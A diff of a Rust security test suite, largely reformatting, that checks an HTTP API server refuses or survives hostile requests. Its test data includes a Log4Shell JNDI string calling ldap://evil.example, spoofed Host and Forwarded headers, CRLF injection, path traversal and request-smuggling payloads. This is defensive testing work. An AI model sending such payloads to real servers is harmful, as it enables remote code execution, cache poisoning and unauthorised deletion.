@@ -8,12 +8,33 @@ use crate::harness::Server;
 #[test]
 fn methods() {
     let target = Target::new();
-    for method in ["TRACE", "PUT", "BREW", "get", "Delete", "PROPFIND", "MERGE", "G%45T", "X-DELETE", "QUERY", "LINK", &"A".repeat(1_000)] {
-        for path in [target.item.as_str(), "/beta/me/profile/skills", "/beta/me/profile", "/beta/users/grace@fjord.example"] {
-            target.refuses(&format!("{method} {path}"), target.server.ada(method, path).json(&json!({ "displayName": "Hostile" })));
+    for method in [
+        "TRACE",
+        "PUT",
+        "BREW",
+        "get",
+        "Delete",
+        "PROPFIND",
+        "MERGE",
+        "G%45T",
+        "X-DELETE",
+        "QUERY",
+        "LINK",
+        &"A".repeat(1_000),
+    ] {
+        for path in
+            [target.item.as_str(), "/beta/me/profile/skills", "/beta/me/profile", "/beta/users/grace@fjord.example"]
+        {
+            target.refuses(
+                &format!("{method} {path}"),
+                target.server.ada(method, path).json(&json!({ "displayName": "Hostile" })),
+            );
         }
     }
-    target.survives("CONNECT", format!("CONNECT 127.0.0.1:22 HTTP/1.1\r\nhost: {}\r\n\r\n", target.server.address()).as_bytes());
+    target.survives(
+        "CONNECT",
+        format!("CONNECT 127.0.0.1:22 HTTP/1.1\r\nhost: {}\r\n\r\n", target.server.address()).as_bytes(),
+    );
     // A method that hides in a header is not one.
     for name in ["x-http-method-override", "x-http-method", "x-method-override"] {
         target.server.ada("GET", &target.item).header(name, "DELETE").send().expect(200);
@@ -32,10 +53,22 @@ fn headers_that_are_refused_or_not_believed() {
         request.header(name, value)
     };
     for (name, value) in [
-        ("if-match", "W/\"other\""), ("if-match", "caf\u{e9}"), ("if-match", "\u{1F30A}"), ("if-match", &long), ("if-match", &format!("\"{long}\"")),
-        ("if-match", ","), ("if-match", "\"a\",,"), ("if-none-match", "*"), ("if-none-match", "x"),
-        ("content-encoding", "caf\u{e9}"), ("host", "evil.example"), ("content-length", "5"),
-        ("transfer-encoding", "gzip"), ("transfer-encoding", "chunked, identity"), ("accept", "image/png"), ("accept", "text/html;q=1"),
+        ("if-match", "W/\"other\""),
+        ("if-match", "caf\u{e9}"),
+        ("if-match", "\u{1F30A}"),
+        ("if-match", &long),
+        ("if-match", &format!("\"{long}\"")),
+        ("if-match", ","),
+        ("if-match", "\"a\",,"),
+        ("if-none-match", "*"),
+        ("if-none-match", "x"),
+        ("content-encoding", "caf\u{e9}"),
+        ("host", "evil.example"),
+        ("content-length", "5"),
+        ("transfer-encoding", "gzip"),
+        ("transfer-encoding", "chunked, identity"),
+        ("accept", "image/png"),
+        ("accept", "text/html;q=1"),
     ] {
         let what = format!("{name}: {}", value.chars().take(40).collect::<String>());
         let reply = change(name, value).send();
@@ -43,7 +76,17 @@ fn headers_that_are_refused_or_not_believed() {
         assert_told(&what, &reply);
         target.is_unharmed(&what);
     }
-    for bearer in ["Bearer", "Bearer ", "Bearer a b", "Bearer \u{e9}.\u{e9}.\u{e9}", "Basic YTpi", "bearer null", &format!("Bearer {long}"), "Bearer ..", "Bearer e30.e30."] {
+    for bearer in [
+        "Bearer",
+        "Bearer ",
+        "Bearer a b",
+        "Bearer \u{e9}.\u{e9}.\u{e9}",
+        "Basic YTpi",
+        "bearer null",
+        &format!("Bearer {long}"),
+        "Bearer ..",
+        "Bearer e30.e30.",
+    ] {
         let request = target.server.anyone("DELETE", &target.item).header("authorization", bearer);
         let reply = target.refuses(bearer, request);
         assert!(matches!(reply.status, 401 | 431), "{bearer}: {}", reply.status);
@@ -57,13 +100,35 @@ fn headers_that_do_no_harm() {
     let server = Server::ephemeral(&["--people", "2"]);
     let long = "a".repeat(50_000);
     for (name, value) in [
-        ("client-request-id", "caf\u{e9}"), ("client-request-id", "a\tb"), ("client-request-id", "%0d%0aset-cookie:%20a=b"), ("client-request-id", &long),
-        ("prefer", &long), ("prefer", "odata.maxpagesize=x"), ("prefer", "odata.maxpagesize=-1"), ("prefer", "odata.maxpagesize=0"), ("prefer", "\u{e9}"),
-        ("prefer", "odata.maxpagesize=99999999999999999999"), ("prefer", "return=minimal; a=\",;\""), ("user-agent", "${jndi:ldap://evil.example/a}"),
-        ("x-forwarded-host", "evil.example"), ("forwarded", "host=evil.example;proto=https"), ("x-forwarded-proto", "https"), ("x-original-url", "/dev/reset"),
-        ("origin", "null"), ("origin", "https://evil.example"), ("referer", &long), ("cookie", &long), ("te", "trailers"), ("range", "bytes=0-0"),
-        ("consistencylevel", "eventual"), ("sdkversion", "\u{0}".trim_matches('\u{0}')), ("accept-language", "../../etc"), ("accept-encoding", "gzip, br"),
-        ("if-modified-since", "never"), ("upgrade", "websocket"), ("odata-version", "4.0"),
+        ("client-request-id", "caf\u{e9}"),
+        ("client-request-id", "a\tb"),
+        ("client-request-id", "%0d%0aset-cookie:%20a=b"),
+        ("client-request-id", &long),
+        ("prefer", &long),
+        ("prefer", "odata.maxpagesize=x"),
+        ("prefer", "odata.maxpagesize=-1"),
+        ("prefer", "odata.maxpagesize=0"),
+        ("prefer", "\u{e9}"),
+        ("prefer", "odata.maxpagesize=99999999999999999999"),
+        ("prefer", "return=minimal; a=\",;\""),
+        ("user-agent", "${jndi:ldap://evil.example/a}"),
+        ("x-forwarded-host", "evil.example"),
+        ("forwarded", "host=evil.example;proto=https"),
+        ("x-forwarded-proto", "https"),
+        ("x-original-url", "/dev/reset"),
+        ("origin", "null"),
+        ("origin", "https://evil.example"),
+        ("referer", &long),
+        ("cookie", &long),
+        ("te", "trailers"),
+        ("range", "bytes=0-0"),
+        ("consistencylevel", "eventual"),
+        ("sdkversion", "\u{0}".trim_matches('\u{0}')),
+        ("accept-language", "../../etc"),
+        ("accept-encoding", "gzip, br"),
+        ("if-modified-since", "never"),
+        ("upgrade", "websocket"),
+        ("odata-version", "4.0"),
     ] {
         let reply = server.ada("GET", "/beta/users?$top=1").header(name, value).send();
         let what = format!("{name}: {}", value.chars().take(40).collect::<String>());
@@ -97,7 +162,7 @@ fn lines_that_are_not_http() {
         ("no target", head("DELETE  HTTP/1.1") + "\r\n"),
         ("a target with a space", head(&format!("DELETE {item} x HTTP/1.1")) + "\r\n"),
         ("a target that is no path", head("DELETE skills HTTP/1.1") + "\r\n"),
-        ("a head that breaks off", delete[..delete.len() - 20].into()),
+        ("a head that breaks off", delete.trim_end().to_owned()),
         ("a header without a colon", delete.clone() + "x-header\r\n\r\n"),
         ("a header with a space in its name", delete.clone() + "x header: 1\r\n\r\n"),
         ("a space before the colon", delete.clone() + "if-match : *\r\n\r\n"),
@@ -118,7 +183,10 @@ fn lines_that_are_not_http() {
         ("chunks, not last", patch.clone() + "transfer-encoding: chunked, gzip\r\n\r\n0\r\n\r\n"),
         ("chunks twice", patch.clone() + "transfer-encoding: chunked\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n"),
         ("a chunk with a bad size", patch.clone() + "transfer-encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n"),
-        ("a chunk beyond all", patch.clone() + "transfer-encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n0\r\n\r\n"),
+        (
+            "a chunk beyond all",
+            patch.clone() + "transfer-encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n0\r\n\r\n",
+        ),
         ("a chunk that breaks off", patch.clone() + "transfer-encoding: chunked\r\n\r\n50\r\n" + good),
         ("chunks without an end", patch.clone() + "transfer-encoding: chunked\r\n\r\n1a\r\n" + good + "\r\n"),
         ("HTTP/2 in disorder", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\ngarbage that is no frame at all".into()),
@@ -142,7 +210,8 @@ fn a_request_behind_another_is_judged_on_its_own() {
     let smuggled = format!("DELETE {} HTTP/1.1\r\nhost: {host}\r\n\r\n", target.item);
     let first = format!("GET /healthz HTTP/1.1\r\nhost: {host}\r\ncontent-length: 0\r\n\r\n");
     target_says(&target, &format!("{first}{smuggled}"));
-    let chunked = format!("POST /beta/me HTTP/1.1\r\nhost: {host}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}");
+    let chunked =
+        format!("POST /beta/me HTTP/1.1\r\nhost: {host}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}");
     target_says(&target, &chunked);
     target.is_sound();
 }
